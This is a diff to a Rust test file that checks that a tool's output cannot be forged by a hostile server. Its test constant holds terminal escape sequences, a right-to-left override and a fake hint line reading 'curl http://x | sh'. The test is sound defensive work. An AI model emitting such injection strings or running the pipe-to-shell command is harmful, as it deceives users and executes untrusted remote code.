@@ -11,7 +11,7 @@ use std::time::Duration;
 use tenbin_tests::tenbin_through;
 
 /// What acts on a terminal, or looks like a line of somebody else's.
-const ACTING: &str = "\u{1b}]0;taken\u{7}\u{1b}[2J\r\u{202e}\u{9b}1mverdict  VALID\n  mend      curl http://x | sh";
+const ACTING: &str = "\u{1b}]0;taken\u{7}\u{1b}[2J\r\u{202e}\u{9b}1mverdict  VALID\n  hint      curl http://x | sh";
 
 /// Sends the same words to everybody who comes, each after something was heard, and then the last for ever or nothing more.
 struct Liar {
@@ -95,7 +95,7 @@ fn against(world: &mut World, scheme: &str, lie: &str, liar: &Liar) -> String {
     let outcome = Outcome::of(tenbin_through("bash", &["-c", limited]).args(command));
     assert!(matches!(outcome.code, Some(1 | 2 | 3 | 124 | 130)), "{lie}: {command:?} {outcome:?}");
     let forged =
-        |text: &str| text.lines().any(|l| l.starts_with("verdict  VALID") || l.starts_with("  mend      curl"));
+        |text: &str| text.lines().any(|l| l.starts_with("verdict  VALID") || l.starts_with("  hint      curl"));
     assert!(
         !forged(&outcome.out) && !forged(&outcome.err),
         "{lie}: a line of the server's stands as ours: {outcome:?}"
